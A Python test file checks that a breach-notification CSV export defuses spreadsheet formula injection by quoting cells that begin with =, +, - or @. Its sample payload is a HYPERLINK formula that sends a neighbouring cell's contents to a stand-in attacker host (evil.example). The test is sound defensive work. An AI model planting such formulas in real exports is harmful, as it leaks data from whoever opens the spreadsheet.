"""The list of whom to tell is opened in a spreadsheet: what others named computes nothing there."""

import csv
import io

import pytest

from app.breaches import listing
from app.breaches.listing import Asked, Concerned
from app.cli import privacy
from app.core.ids import new_id
from tests.conftest import NOW


@pytest.mark.parametrize("begins", ["=", "+", "-", "@"])
async def test_an_office_is_called_nothing_that_is_worked_out(monkeypatch, capsys, begins) -> None:
    called = f'{begins}HYPERLINK("https://evil.example/?"&A2)'
    child = Concerned(new_id(), 1, NOW, NOW, ["readChild"], None, new_id(), called)

    async def looks(*_: object) -> tuple[int, dict[str, int]]:
        return 1, {}

    async def concerned(*_: object):
        yield child

    monkeypatch.setattr(listing, "looks", looks)
    monkeypatch.setattr(listing, "concerned", concerned)
    await privacy._write(None, asked=Asked(NOW, NOW, None, None, None))
    _, row = csv.reader(io.StringIO(capsys.readouterr().out))
    assert row[3] == f"'{called}"
